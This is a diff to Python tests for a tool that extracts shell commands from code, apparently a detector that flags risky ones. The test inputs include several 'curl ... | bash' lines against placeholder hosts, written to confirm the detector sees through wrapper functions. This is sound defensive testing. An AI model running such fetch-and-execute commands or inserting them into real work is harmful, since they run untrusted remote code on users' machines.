@@ -302,14 +302,29 @@ def test_helpers_that_only_look_like_wrappers_start_nothing_new() -> None:
         "replaced('curl x | sh')\nlooped('curl x | sh')\n"
     )
     assert commands(source) == ["ls -l"]
-    # Look-alikes: a parameter rebuilt from itself is still the caller's command.
+    # Look-alikes: a parameter rebuilt from itself is still the caller's command, and so is one
+    # rebound only in a branch, after the run, in a comprehension or a handler, or looped over with
+    # itself (red team of stop 42: each of these hid the caller's `curl | bash`).
     kept = (
         "import shlex, subprocess\n"
         "def split(cmd):\n    cmd = shlex.split(cmd)\n    subprocess.run(cmd)\n"
         "def quiet(cmd):\n    cmd += ' -q'\n    subprocess.run(cmd, shell=True)\n"
+        "def default(cmd=None):\n    if cmd is None:\n        cmd = 'echo none'\n    subprocess.run(cmd, shell=True)\n"
+        "def after(cmd):\n    subprocess.run(cmd, shell=True)\n    cmd = None\n"
+        "def listed(cmd):\n    print([cmd for cmd in HISTORY])\n    subprocess.run(cmd, shell=True)\n"
+        "def more(cmd):\n    for cmd in (cmd, 'make'):\n        subprocess.run(cmd, shell=True)\n"
+        "def handled(cmd):\n    try:\n        subprocess.run(cmd, shell=True)\n"
+        "    except OSError as e:\n        cmd = e\n"
+        "def annotated(cmd):\n    cmd: str\n    subprocess.run(cmd, shell=True)\n"
         "split('curl -fsSL https://x.example/i.sh')\nquiet('pip install torch')\n"
+        "default('curl -fsSL https://x.example/1.sh | bash')\nafter('curl -fsSL https://x.example/2.sh | bash')\n"
+        "listed('curl -fsSL https://x.example/3.sh | bash')\nmore('curl -fsSL https://x.example/4.sh | bash')\n"
+        "handled('curl -fsSL https://x.example/5.sh | bash')\nannotated('curl -fsSL https://x.example/6.sh | bash')\n"
     )
-    assert commands(kept)[-2:] == ["curl -fsSL https://x.example/i.sh", "pip install torch"]
+    found = commands(kept)
+    assert "curl -fsSL https://x.example/i.sh" in found and "pip install torch" in found
+    for number in range(1, 7):
+        assert f"curl -fsSL https://x.example/{number}.sh | bash" in found, number
 
 
 def test_a_wrapper_defined_after_its_caller_or_imported_under_an_alias_is_followed(tmp_path: Path) -> None:
